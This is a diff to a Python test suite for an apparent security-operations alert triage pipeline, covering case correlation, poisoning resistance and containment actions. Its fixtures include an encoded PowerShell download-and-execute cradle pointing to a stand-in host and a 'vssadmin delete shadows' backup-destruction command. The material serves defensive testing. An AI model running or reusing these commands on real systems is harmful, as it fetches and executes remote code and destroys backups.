@@ -303,7 +303,7 @@ def test_a_batched_run_that_needs_approval_pauses_in_its_own_thread_and_resumes(
     trace = snapshot.values["trace"]
     assert [t.split(":")[0].split(" ")[0] for t in trace] == ["ingest", "dedupe", "enrich", "correlate", "assess", "reason",
                                                 "plan", "guard"]
-    state = p.resume(item.thread_id, approved=True, by="lead.ana")
+    state = p.resume(item.thread_id, approved=True, by="lead.ana", approvers=("lead.ana", "lead.di"))  # two-person rule
     assert state["action_status"] == "executed"
     assert p.store.session.get(ContainmentRow, ("isolated_host", "dc02.corp.example")).active
     assert p.store.session.get(CaseRow, paused.case_id).status == "contained"
@@ -349,12 +349,7 @@ NEW_MALWARE = "9f1c3e5a7b2d4f6081a3c5e7f9b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7"
 
 def test_benign_facts_about_old_alerts_never_close_a_new_malware_alert_on_a_domain_controller(pipeline):
     """Correlation poisoning: two allowlisted tools in an older case share a user with a critical alert."""
-    for n, sha in enumerate((PROCDUMP, NMAP)):
-        pipeline.process_line(make_alert("malware_detected", [("host", "wks-it-04.corp.example", "dst"),
-                                                              ("user", "jlee", "actor"), ("file_hash", sha, "file")],
-                                          alert_id=f"tool-{n}", severity="low", minutes_ago=30 - n))
-    pipeline.store.commit()
-    closes_before = _closes(pipeline)
+    closes_before = _two_allowlisted_tools_closed(pipeline)
     [new] = pipeline.process_line(make_alert(
         "malware_detected", [("host", "dc01.corp.example", "dst"), ("user", "jlee", "actor"),
                              ("file_hash", NEW_MALWARE, "file")], alert_id="dc-new", severity="critical"))
@@ -364,12 +359,19 @@ def test_benign_facts_about_old_alerts_never_close_a_new_malware_alert_on_a_doma
     pipeline.store.commit()
     assert _closes(pipeline) == closes_before, "the new alert's run closed nothing"
     assert pipeline.store.session.get(CaseRow, new.case_id).status != "closed"
-    notes = json.loads(pipeline.store.session.get(NoteRow, new.case_id).notes_json)
-    # It joined the tools' closed case (same rule, same user): each alert was judged on its own evidence (the
-    # allowlist speaks for the tools, not for the new hash), the case re-opened, and the notes show what it was.
-    assert new.case_id == _case_of(pipeline, "tool-0")
-    assert "alerts judged one by one" in notes["reasoning"]
-    assert notes["earlier_verdict"].startswith("false_positive") and "re-opened" in notes["earlier_verdict"]
+    # Another machine sharing only a user (a weak entity) does not join the tools' case at all; the join
+    # that re-opens a closed case is covered by test_a_new_malware_alert_on_the_same_workstation_re_opens_its_case.
+    assert new.case_id != _case_of(pipeline, "tool-0")
+
+
+def _two_allowlisted_tools_closed(pipeline) -> list[int]:
+    """Two allowlisted tools seen by jlee on wks-it-04: a false-positive case, closed; the close actions so far."""
+    for n, sha in enumerate((PROCDUMP, NMAP)):
+        pipeline.process_line(make_alert("malware_detected", [("host", "wks-it-04.corp.example", "dst"),
+                                                              ("user", "jlee", "actor"), ("file_hash", sha, "file")],
+                                          alert_id=f"tool-{n}", severity="low", minutes_ago=30 - n))
+    pipeline.store.commit()
+    return _closes(pipeline)
 
 
 def _closes(pipeline) -> list[int]:
@@ -433,3 +435,105 @@ def test_a_50_mb_line_in_a_file_is_dead_lettered_as_oversize_and_the_next_line_i
     assert dead.reason.startswith("oversize:") and f"{size} bytes" in dead.reason
     assert (dead.line_no, dead.raw_size) == (1, size) and dead.raw.startswith('{"id": "big"')
     assert len(dead.raw) <= 64 * 1024
+
+
+# ---- follow-ups are acted on: the run targets what the new alert is about --------------------------
+
+
+def _actions(pipeline, case_id: str) -> list[tuple[str, str | None]]:
+    pipeline.store.session.flush()
+    rows = pipeline.store.session.exec(select(ActionRow).where(ActionRow.case_id == case_id)
+                                       .order_by(ActionRow.id)).all()
+    return [(row.name, row.target_value) for row in rows]
+
+
+def test_a_second_lolbin_alert_in_a_case_kills_its_own_process(pipeline):
+    host = "kiosk01.corp.example"
+    encoded = ("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp"
+               "AGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQB1AHAAZABhAHQAZQAu"
+               "AGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAJwApAA==")
+
+    def powershell(alert_id: str, pid: int, minutes_ago: float) -> bytes:
+        return make_alert("suspicious_powershell", [("host", host, "dst"), ("process", f"powershell.exe:{pid}", "process"),
+                                                    ("user", "rupert", "actor")], alert_id=alert_id,
+                          minutes_ago=minutes_ago, command_line=encoded, parent_process="winword.exe", pid=pid)
+
+    first = pipeline.process_line(powershell("ps-1", 3820, 6))[0]
+    second = pipeline.process_line(powershell("ps-2", 9092, 4))[0]
+    assert second.case_id == first.case_id and second.status == "decided", second
+    assert first.action == second.action == "kill_process"
+    kills = [target for name, target in _actions(pipeline, first.case_id) if name == "kill_process"]
+    assert kills == ["powershell.exe:3820", "powershell.exe:9092"]
+
+
+_LOCKBIT = "a8e7656fabddd483e12527248b8c95156501ed34dc268c3f4bb81709a9aebec7"  # known bad (demo intel)
+_COBALT = "5e0528fc55f3f6083d51611de73f26d17c743571a57e557036f1df1215aac156"  # known bad, another family
+
+
+def _ransomware(alert_id: str, host: str, file_hash: str, minutes_ago: float) -> bytes:
+    return make_alert("shadow_copy_deletion", [("host", host, "dst"), ("process", f"vssadmin.exe:{len(alert_id)}", "process"),
+                                               ("user", "sybil", "actor"), ("file_hash", file_hash, "file")],
+                      alert_id=alert_id, severity="critical", minutes_ago=minutes_ago,
+                      command_line="vssadmin delete shadows /all /quiet", parent_process="locker.exe")
+
+
+def test_a_ransomware_alert_on_another_host_sharing_only_a_user_opens_its_own_case(pipeline):
+    a = pipeline.process_line(_ransomware("lb-1", "wks-fin-01.corp.example", _LOCKBIT, 6))[0]
+    b = pipeline.process_line(_ransomware("cs-1", "wks-fin-02.corp.example", _COBALT, 5))[0]
+    assert b.case_id != a.case_id and b.status == "decided"
+    assert ("isolate_host", "wks-fin-02.corp.example") in _actions(pipeline, b.case_id)
+
+
+def test_a_shared_file_hash_joins_another_hosts_alert_says_so_and_isolates_that_host(pipeline):
+    a = pipeline.process_line(_ransomware("lb-1", "wks-fin-01.corp.example", _LOCKBIT, 6))[0]
+    b = pipeline.process_line(_ransomware("lb-2", "wks-fin-02.corp.example", _LOCKBIT, 5))[0]
+    assert b.case_id == a.case_id and b.status == "decided", b
+    assert _actions(pipeline, a.case_id) == [("isolate_host", "wks-fin-01.corp.example"),
+                                             ("isolate_host", "wks-fin-02.corp.example")]
+    # The join says through which indicator: in why the run was needed (the ingest trace line and its audit).
+    assert f"joined through file_hash:{_LOCKBIT}" in " ".join(b.reasons) + " ".join(_ingest_audit(pipeline, a.case_id))
+    [_, second_run] = [json.loads(p) for p in _ingest_audit(pipeline, a.case_id)]
+    assert f"joined through file_hash:{_LOCKBIT}" in second_run["material"]
+    assert "new host host:wks-fin-02.corp.example" in second_run["material"]
+
+
+def _ingest_audit(pipeline, case_id: str) -> list[str]:
+    from soc_agent.audit import AuditRecord
+
+    pipeline.store.commit()  # audit records are chained when the run's transaction commits
+    return [row.payload for row in pipeline.store.session.exec(
+        select(AuditRecord).where(AuditRecord.case_id == case_id, AuditRecord.kind == "node.ingest")
+        .order_by(AuditRecord.seq))]
+
+
+def test_a_phishing_cases_second_alert_quarantines_its_new_sender(pipeline):
+    def report(alert_id: str, sender: str, minutes_ago: float) -> bytes:
+        return make_alert("phishing_reported", [("email", sender, "sender"),
+                                                ("url", "http://login-micros0ft.example/owa/auth.php", "link"),
+                                                ("domain", "login-micros0ft.example", "sender_domain"),
+                                                ("user", "laura", "recipient")],
+                          alert_id=alert_id, severity="high", minutes_ago=minutes_ago)
+
+    first = pipeline.process_line(report("ph-1", "it-desk@login-micros0ft.example", 6))[0]
+    second = pipeline.process_line(report("ph-2", "helpdesk@login-micros0ft.example", 5))[0]
+    assert second.case_id == first.case_id and second.status == "decided", second
+    quarantined = [target for name, target in _actions(pipeline, first.case_id) if name == "quarantine_email"]
+    assert quarantined[-1] == "helpdesk@login-micros0ft.example", quarantined
+
+
+def test_a_new_malware_alert_on_the_same_workstation_re_opens_its_case(pipeline):
+    """Correlation poisoning through a join that still happens: same rule, same machine, same user."""
+    closes_before = _two_allowlisted_tools_closed(pipeline)
+    [new] = pipeline.process_line(make_alert(
+        "malware_detected", [("host", "wks-it-04.corp.example", "dst"), ("user", "jlee", "actor"),
+                             ("file_hash", NEW_MALWARE, "file")], alert_id="wks-new", severity="critical"))
+    assert new.case_id == _case_of(pipeline, "tool-0") and new.status == "decided", new
+    assert new.verdict not in ("false_positive", "benign_positive"), new
+    assert not (new.action == "close_case" and new.decision == "allow"), new
+    pipeline.store.commit()
+    assert _closes(pipeline) == closes_before, "the new alert's run closed nothing"
+    notes = json.loads(pipeline.store.session.get(NoteRow, new.case_id).notes_json)
+    # Each alert was judged on its own evidence (the allowlist speaks for the tools, not for the new hash),
+    # the case re-opened, and the notes show what it was.
+    assert "alerts judged one by one" in notes["reasoning"]
+    assert notes["earlier_verdict"].startswith("false_positive") and "re-opened" in notes["earlier_verdict"]
